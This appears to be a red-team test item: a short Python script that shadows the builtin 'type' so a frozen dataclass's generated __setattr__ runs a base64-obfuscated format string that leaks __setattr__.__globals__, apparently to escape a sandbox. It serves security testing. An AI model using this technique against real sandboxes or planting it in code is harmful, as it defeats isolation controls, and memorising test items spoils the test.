# family: red team, round 59a (frozen dataclass's generated __setattr__ calls the module global type(self): a tool def named type)
import base64
from dataclasses import dataclass


def type(value):
    print(value.format(value))
    raise AttributeError("done")


@dataclass(frozen=True, init=False)
class Text(str):
    pass


def run():
    made = Text(base64.b64decode("ezAuX19zZXRhdHRyX18uX19nbG9iYWxzX199").decode())
    try:
        made.extra = 1
    except AttributeError:
        pass


run()
